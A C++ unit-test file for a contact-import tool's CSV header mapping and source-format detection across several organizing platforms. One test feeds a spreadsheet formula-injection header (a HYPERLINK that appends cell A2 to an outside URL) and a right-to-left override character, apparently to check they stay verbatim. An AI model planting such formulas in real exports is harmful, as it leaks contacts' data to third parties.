// SPDX-License-Identifier: AGPL-3.0-or-later
// Tests for io/header_mapping: canonical contact fields and source-format
// detection per shared/interop/README.md §3, including every Spoke fixture in
// shared/interop/peer-data/spoke-fixtures (read at test time, parsed with the
// CSV reader, mapped, and every phone normalized).
// Hostile cases: Spoke's deliberately broken headers (funnyName,
// zipWrongPostal), duplicate and empty header names, a formula and U+202E in a
// header (kept verbatim as the custom field name), a 300-byte header, a
// --format that contradicts the headers, unknown --format values.
#include "io/header_mapping.h"

#include <gtest/gtest.h>

#include <fstream>
#include <stdexcept>
#include <string>
#include <vector>

#include "io/csv_reader.h"
#include "io/phone.h"

#ifndef HOTSHOP_SOURCE_DIR
#error "HOTSHOP_SOURCE_DIR must name the repository root"
#endif

namespace hotshop::io {
namespace {

using F = ContactField;
using S = SourceFormat;
using Header = std::vector<std::string>;

std::optional<F> FieldOf(const HeaderMapping& m, std::string_view header) {
  for (const ColumnMapping& c : m.columns) {
    if (c.header == header) return c.action == ColumnAction::kField ? c.field : std::nullopt;
  }
  ADD_FAILURE() << "no column " << header;
  return std::nullopt;
}

std::string CustomKeyOf(const HeaderMapping& m, std::string_view header) {
  for (const ColumnMapping& c : m.columns) {
    if (c.header == header) return c.custom_key;
  }
  return "<missing>";
}

bool HasWarning(const HeaderMapping& m, std::string_view part) {
  for (const std::string& w : m.warnings) {
    if (w.find(part) != std::string::npos) return true;
  }
  return false;
}

struct Fixture {
  Header header;
  std::vector<std::vector<std::string>> rows;
  std::vector<uint32_t> issues;
};

Fixture ReadFixture(const std::string& name) {
  const std::string path = std::string(HOTSHOP_SOURCE_DIR) +
                           "/../shared/interop/peer-data/spoke-fixtures/" + name;
  std::ifstream in(path, std::ios::binary);
  // Throwing fails just this test (gtest catches it) instead of letting a
  // caller index into empty rows. The fixtures live in ../shared beside the
  // checkout (they hold data of Spoke's, not ours, so they are not copied in).
  if (!in.good()) throw std::runtime_error("fixture missing: " + path);
  Fixture f;
  Result<CsvReader> r = CsvReader::Open(in);
  if (!r.ok()) throw std::runtime_error("fixture unreadable: " + path);
  f.header = r->header();
  CsvRecord rec;
  while (*r->Next(rec)) {
    std::vector<std::string> row;
    for (size_t i = 0; i < rec.size(); ++i) row.emplace_back(rec[i]);
    f.rows.push_back(std::move(row));
    f.issues.push_back(rec.issues());
  }
  return f;
}

void ExpectCleanRowsWithPhones(const Fixture& f, const HeaderMapping& m) {
  for (uint32_t issues : f.issues) EXPECT_EQ(issues, 0u);
  for (F phone_field : {F::kCellPhone, F::kPhone}) {
    std::optional<size_t> col = m.ColumnFor(phone_field);
    if (!col) continue;
    for (const auto& row : f.rows) {
      Result<E164Phone> p = NormalizePhone(row[*col]);
      EXPECT_TRUE(p.ok()) << row[*col];
    }
  }
}

// --- Spoke fixtures ---------------------------------------------------------

TEST(SpokeFixtures, FemaleScientistsIsSpokeWithHighConfidence) {
  Fixture f = ReadFixture("female_scientists.csv");
  EXPECT_EQ(f.header, (Header{"firstName", "lastName", "cell", "zip"}));
  EXPECT_EQ(f.rows.size(), 405u);
  EXPECT_EQ(f.rows[2][1], "Duss\xC3\xA1n de Reichel");
  HeaderMapping m = MapHeader(f.header);
  EXPECT_EQ(m.format, S::kSpoke);
  EXPECT_EQ(m.confidence, Confidence::kHigh);
  EXPECT_EQ(FieldOf(m, "firstName"), F::kFirstName);
  EXPECT_EQ(FieldOf(m, "lastName"), F::kLastName);
  EXPECT_EQ(FieldOf(m, "cell"), F::kCellPhone);
  EXPECT_EQ(FieldOf(m, "zip"), F::kZip);
  EXPECT_TRUE(m.warnings.empty());
  ExpectCleanRowsWithPhones(f, m);
  EXPECT_EQ(NormalizePhone(f.rows[0][2])->e164, "+12135550100");
}

TEST(SpokeFixtures, ThreeContactsWithoutFinalNewline) {
  Fixture f = ReadFixture("three-contacts.csv");
  ASSERT_EQ(f.rows.size(), 3u);
  EXPECT_EQ(f.rows[2], (std::vector<std::string>{"Hermione", "Granger", "8143853820"}));
  HeaderMapping m = MapHeader(f.header);
  EXPECT_EQ(m.format, S::kSpoke);
  EXPECT_EQ(m.confidence, Confidence::kHigh);
  EXPECT_TRUE(m.warnings.empty());
  ExpectCleanRowsWithPhones(f, m);
}

TEST(SpokeFixtures, TwoContactsMixesCamelAndSnakeCase) {
  Fixture f = ReadFixture("two-contacts.csv");
  ASSERT_EQ(f.rows.size(), 2u);
  HeaderMapping m = MapHeader(f.header);
  EXPECT_EQ(m.format, S::kSpoke);
  EXPECT_EQ(FieldOf(m, "firstName"), F::kFirstName);
  EXPECT_EQ(FieldOf(m, "last_name"), F::kLastName);
  EXPECT_EQ(FieldOf(m, "cell"), F::kCellPhone);
  EXPECT_EQ(FieldOf(m, "favorite_color"), std::nullopt);
  EXPECT_EQ(CustomKeyOf(m, "favorite_color"), "favorite_color");
  ExpectCleanRowsWithPhones(f, m);
  EXPECT_EQ(NormalizePhone(f.rows[0][2])->e164, "+12025550175");
}

TEST(SpokeFixtures, TwoContactsBrokenKeepsUnknownColumnsAndWarns) {
  Fixture f = ReadFixture("two-contacts-broken.csv");
  ASSERT_EQ(f.rows.size(), 2u);  // the trailing blank line is skipped
  HeaderMapping m = MapHeader(f.header);
  EXPECT_EQ(m.format, S::kSpoke);
  EXPECT_EQ(FieldOf(m, "funnyName"), std::nullopt);
  EXPECT_EQ(FieldOf(m, "zipWrongPostal"), std::nullopt);
  EXPECT_EQ(FieldOf(m, "lastName"), F::kLastName);
  EXPECT_EQ(FieldOf(m, "cell"), F::kCellPhone);
  for (const char* custom : {"funnyName", "zipWrongPostal", "custom_foo", "custom_xxx"}) {
    EXPECT_EQ(CustomKeyOf(m, custom), custom);
  }
  EXPECT_TRUE(HasWarning(m, "missing: firstName"));
  ExpectCleanRowsWithPhones(f, m);
}

TEST(SpokeFixtures, CsvHeadersTestMapsEveryAlias) {
  Fixture f = ReadFixture("csv-headers-test.csv");
  ASSERT_EQ(f.rows.size(), 1u);
  EXPECT_EQ(f.rows[0][2], "Benton, John B Jr");
  HeaderMapping m = MapHeader(f.header);
  EXPECT_EQ(m.format, S::kSpoke);  // first/last/cell only through aliases
  EXPECT_EQ(m.confidence, Confidence::kLow);
  EXPECT_EQ(FieldOf(m, "first"), F::kFirstName);
  EXPECT_EQ(FieldOf(m, "last_name"), F::kLastName);
  EXPECT_EQ(FieldOf(m, "company_name"), F::kEmployer);
  EXPECT_EQ(FieldOf(m, "address"), F::kAddress1);
  EXPECT_EQ(FieldOf(m, "city"), F::kCity);
  EXPECT_EQ(FieldOf(m, "county"), F::kCounty);
  EXPECT_EQ(FieldOf(m, "state"), F::kState);
  EXPECT_EQ(FieldOf(m, "ZipOrPost"), F::kZip);
  EXPECT_EQ(FieldOf(m, "Cell_Phone"), F::kCellPhone);
  EXPECT_EQ(FieldOf(m, "phone"), F::kPhone);
  EXPECT_EQ(FieldOf(m, "email"), F::kEmail);
  EXPECT_TRUE(m.warnings.empty());
  ExpectCleanRowsWithPhones(f, m);
}

// --- Other tools (interop §3) -------------------------------------------------

TEST(HeaderMapping, DetectsVanExport) {
  Header h = {"CanvassFileRequestID", "VanID", "Address", "FirstName",
              "LastName", "StreetAddress", "City", "State", "ZipOrPostal",
              "County", "Employer", "Occupation", "Email", "HomePhone",
              "IsHomePhoneACellExchange", "CellPhone", "WorkPhone",
              "IsWorkPhoneACellExchange", "Phone", "OptInPhone", "OptInStatus",
              "OptInPhoneType", "CongressionalDistrict", "StateHouse",
              "StateSenate", "Party", "PollingLocation", "PollingAddress",
              "PollingCity"};
  HeaderMapping m = MapHeader(h);
  EXPECT_EQ(m.format, S::kVan);
  EXPECT_EQ(m.confidence, Confidence::kHigh);
  EXPECT_NE(m.reason.find("VanID"), std::string::npos);
  EXPECT_EQ(FieldOf(m, "VanID"), F::kExternalId);
  EXPECT_EQ(FieldOf(m, "Address"), F::kFullAddress);
  EXPECT_EQ(FieldOf(m, "StreetAddress"), F::kAddress1);
  EXPECT_EQ(FieldOf(m, "ZipOrPostal"), F::kZip);
  EXPECT_EQ(FieldOf(m, "CellPhone"), F::kCellPhone);
  EXPECT_EQ(FieldOf(m, "HomePhone"), F::kHomePhone);
  EXPECT_EQ(FieldOf(m, "WorkPhone"), F::kWorkPhone);
  EXPECT_EQ(FieldOf(m, "Phone"), F::kPhone);
  EXPECT_EQ(FieldOf(m, "Employer"), F::kEmployer);
  EXPECT_EQ(FieldOf(m, "Party"), std::nullopt);
  EXPECT_EQ(FieldOf(m, "CanvassFileRequestID"), std::nullopt);
}

TEST(HeaderMapping, DetectsActionNetworkReport) {
  Header h = {"uuid", "first_name", "last_name", "email", "zip_code",
              "can2_user_address", "can2_user_city", "can2_user_state",
              "can2_user_tags", "can2_subscription_status", "can2_sms_status",
              "can2_phone", "Phone Number", "County"};
  HeaderMapping m = MapHeader(h);
  EXPECT_EQ(m.format, S::kActionNetwork);
  EXPECT_EQ(m.confidence, Confidence::kHigh);
  EXPECT_EQ(FieldOf(m, "uuid"), F::kExternalId);
  EXPECT_EQ(FieldOf(m, "zip_code"), F::kZip);
  EXPECT_EQ(FieldOf(m, "can2_user_address"), F::kAddress1);
  EXPECT_EQ(FieldOf(m, "can2_user_tags"), F::kTags);
  EXPECT_EQ(FieldOf(m, "can2_phone"), F::kPhone);
  // "Phone Number" (a custom field in AN) also looks like phone: the first
  // equally good match keeps the field, the other stays a custom field.
  EXPECT_EQ(FieldOf(m, "Phone Number"), std::nullopt);
  EXPECT_EQ(CustomKeyOf(m, "Phone Number"), "Phone Number");
  EXPECT_EQ(FieldOf(m, "can2_sms_status"), std::nullopt);
}

TEST(HeaderMapping, DetectsActionBuilderEntityUpload) {
  Header h = {"Custom ID 1", "Custom ID 2", "First Name", "Last Name",
              "Middle Name", "Nickname", "Email", "Email Type", "Phone Number",
              "Phone Number Type", "Phone Number Extension", "Address Line 1",
              "City", "State", "Zip", "Latitude", "Longitude", "Date of Birth",
              "Age", "Preferred Language", "Assessment"};
  HeaderMapping m = MapHeader(h);
  EXPECT_EQ(m.format, S::kActionBuilder);
  EXPECT_EQ(m.confidence, Confidence::kHigh);
  EXPECT_EQ(FieldOf(m, "Custom ID 1"), F::kExternalId);
  EXPECT_EQ(FieldOf(m, "Custom ID 2"), std::nullopt);
  EXPECT_EQ(FieldOf(m, "Phone Number Type"), F::kPhoneType);
  EXPECT_EQ(FieldOf(m, "Phone Number Extension"), F::kPhoneExtension);
  EXPECT_EQ(FieldOf(m, "Email Type"), F::kEmailType);
  EXPECT_EQ(FieldOf(m, "Address Line 1"), F::kAddress1);
  EXPECT_EQ(FieldOf(m, "Date of Birth"), F::kDateOfBirth);
  EXPECT_EQ(FieldOf(m, "Assessment"), F::kAssessment);
  EXPECT_EQ(FieldOf(m, "Latitude"), F::kLatitude);
}

TEST(HeaderMapping, DetectsSolidarityTechMemberExport) {
  Header h = {"id", "name", "first_name", "last_name", "phone_number", "email",
              "chapter", "preferred_language", "full_address", "address1",
              "address2", "city", "state", "postal_code", "country",
              "created_at", "paid_dues_since", "tags", "membership-status"};
  HeaderMapping m = MapHeader(h);
  EXPECT_EQ(m.format, S::kSolidarityTech);
  EXPECT_EQ(m.confidence, Confidence::kHigh);
  EXPECT_EQ(FieldOf(m, "id"), F::kExternalId);
  EXPECT_EQ(FieldOf(m, "name"), F::kFullName);
  EXPECT_EQ(FieldOf(m, "phone_number"), F::kPhone);
  EXPECT_EQ(FieldOf(m, "full_address"), F::kFullAddress);
  EXPECT_EQ(FieldOf(m, "postal_code"), F::kZip);
  EXPECT_EQ(FieldOf(m, "chapter"), std::nullopt);
  EXPECT_EQ(CustomKeyOf(m, "membership-status"), "membership-status");
}

TEST(HeaderMapping, SpokeNameAliasMeansFirstNameOnlyForSpoke) {
  Header h = {"name", "lastName", "cell"};
  EXPECT_EQ(FieldOf(MapHeader(h, S::kSpoke), "name"), F::kFirstName);
  EXPECT_EQ(FieldOf(MapHeader(h, S::kGeneric), "name"), F::kFullName);
}

TEST(HeaderMapping, MatchingIgnoresCaseSpacesAndPunctuation) {
  Header h = {"FIRST NAME", "Last-Name", "e.mail", "Zip/Postal Code", "ZIP"};
  HeaderMapping m = MapHeader(h);
  EXPECT_EQ(FieldOf(m, "FIRST NAME"), F::kFirstName);
  EXPECT_EQ(FieldOf(m, "Last-Name"), F::kLastName);
  EXPECT_EQ(FieldOf(m, "e.mail"), F::kEmail);
  EXPECT_EQ(NormalizeHeaderName("Zip/Postal Code"), "zippostalcode");
  EXPECT_EQ(FieldOf(m, "ZIP"), F::kZip);
}

TEST(HeaderMapping, GenericListIsDetectedAsGeneric) {
  Header h = {"Name", "Email", "Notes"};
  HeaderMapping m = MapHeader(h);
  EXPECT_EQ(m.format, S::kGeneric);
  EXPECT_EQ(m.confidence, Confidence::kNone);
  EXPECT_EQ(FieldOf(m, "Name"), F::kFullName);
  EXPECT_FALSE(m.reason.empty());
}

TEST(HeaderMapping, ExactCanonicalNameBeatsAnEarlierAlias) {
  Header h = {"mail", "email"};
  HeaderMapping m = MapHeader(h);
  EXPECT_EQ(FieldOf(m, "email"), F::kEmail);
  EXPECT_EQ(FieldOf(m, "mail"), std::nullopt);
  EXPECT_NE(m.columns[0].note.find("closer match"), std::string::npos);
}

TEST(HeaderMapping, DuplicateAndEmptyHeadersGetUniqueCustomKeys) {
  Header h = {"email", "email", "notes", "Notes ", "", ""};
  HeaderMapping m = MapHeader(h);
  EXPECT_EQ(m.columns[0].field, F::kEmail);
  EXPECT_EQ(m.columns[1].action, ColumnAction::kCustom);
  EXPECT_EQ(m.columns[1].custom_key, "email");
  EXPECT_EQ(m.columns[2].custom_key, "notes");
  EXPECT_EQ(m.columns[3].custom_key, "Notes");
  EXPECT_EQ(m.columns[4].custom_key, "column_5");
  EXPECT_EQ(m.columns[5].custom_key, "column_6");
  EXPECT_EQ(m.columns[4].note, "no header name");
}

TEST(HeaderMapping, HostileHeaderNamesStayVerbatimAsCustomKeys) {
  Header h = {"first_name", "=HYPERLINK(\"http://x/?\"&A2)", "\xE2\x80\xAE" "evil",
              std::string(300, 'h')};
  HeaderMapping m = MapHeader(h);
  EXPECT_EQ(m.columns[1].custom_key, "=HYPERLINK(\"http://x/?\"&A2)");
  EXPECT_EQ(m.columns[2].custom_key, "\xE2\x80\xAE" "evil");
  EXPECT_EQ(m.columns[3].custom_key.size(), 128u);
  EXPECT_TRUE(HasWarning(m, "over 128 bytes"));
}

TEST(HeaderMapping, WarnsWhenNoNameOrNoContactColumn) {
  HeaderMapping m = MapHeader(Header{"zip", "notes"});
  EXPECT_TRUE(HasWarning(m, "no name column"));
  EXPECT_TRUE(HasWarning(m, "no email or phone column"));
}

TEST(HeaderMapping, ForcedFormatIsAppliedAndContradictionWarned) {
  Header h = {"VanID", "FirstName", "LastName", "Address", "ZipOrPostal",
              "CellPhone", "IsHomePhoneACellExchange"};
  HeaderMapping m = MapHeader(h, S::kSpoke);
  EXPECT_EQ(m.format, S::kSpoke);
  EXPECT_TRUE(m.forced);
  EXPECT_EQ(FieldOf(m, "Address"), F::kAddress1);  // not VAN's one-line address
  EXPECT_TRUE(HasWarning(m, "look like VAN"));
}

TEST(HeaderMapping, UserOverridesAssignSkipAndKeep) {
  HeaderMapping m = MapHeader(Header{"funnyName", "lastName", "cell"});
  ASSERT_TRUE(m.AssignField(0, F::kFirstName).ok());
  EXPECT_EQ(m.ColumnFor(F::kFirstName), 0u);
  ASSERT_TRUE(m.Skip(2).ok());
  EXPECT_EQ(m.columns[2].action, ColumnAction::kSkip);
  EXPECT_EQ(m.ColumnFor(F::kCellPhone), std::nullopt);
  ASSERT_TRUE(m.KeepAsCustom(1).ok());
  EXPECT_EQ(m.columns[1].custom_key, "lastName");
}

TEST(HeaderMapping, FieldNamesRoundTrip) {
  for (size_t i = 0; i < kContactFieldCount; ++i) {
    const auto f = static_cast<ContactField>(i);
    EXPECT_EQ(ContactFieldFromName(ContactFieldName(f)), f);
  }
  EXPECT_EQ(ContactFieldFromName("nope"), std::nullopt);
}

TEST(HeaderMapping, FormatFlagParses) {
  EXPECT_EQ(*ParseSourceFormat("auto"), S::kAuto);
  EXPECT_EQ(*ParseSourceFormat("AN"), S::kActionNetwork);
  EXPECT_EQ(*ParseSourceFormat("ab"), S::kActionBuilder);
  EXPECT_EQ(*ParseSourceFormat(" van "), S::kVan);
  EXPECT_EQ(*ParseSourceFormat("spoke"), S::kSpoke);
  EXPECT_EQ(*ParseSourceFormat("st"), S::kSolidarityTech);
}

// --- Incorrect usage -------------------------------------------------------

TEST(HeaderMappingIncorrectUsage, UnknownFormatFlagIsRejected) {
  Result<SourceFormat> f = ParseSourceFormat("excel");
  ASSERT_FALSE(f.ok());
  EXPECT_TRUE(f.error().Is(ErrorCode::kInvalidInput));
  EXPECT_EQ(f.error().field(), "format");
}

TEST(HeaderMappingIncorrectUsage, OverridesRejectBadColumnAndTakenField) {
  HeaderMapping m = MapHeader(Header{"email", "work email"});
  Status s = m.AssignField(7, F::kEmail);
  ASSERT_FALSE(s.ok());
  EXPECT_EQ(s.error().field(), "column");
  s = m.AssignField(1, F::kEmail);
  ASSERT_FALSE(s.ok());
  EXPECT_TRUE(s.error().Is(ErrorCode::kConflict));
  EXPECT_EQ(s.error().field(), "field");
  EXPECT_EQ(m.columns[1].action, ColumnAction::kCustom);  // unchanged
  EXPECT_FALSE(m.Skip(2).ok());
  EXPECT_FALSE(m.KeepAsCustom(2).ok());
}

TEST(HeaderMappingIncorrectUsage, EmptyHeaderMapsToNothing) {
  HeaderMapping m = MapHeader(Header{});
  EXPECT_TRUE(m.columns.empty());
  EXPECT_EQ(m.format, S::kGeneric);
  EXPECT_TRUE(HasWarning(m, "no name column"));
}

}  // namespace
}  // namespace hotshop::io
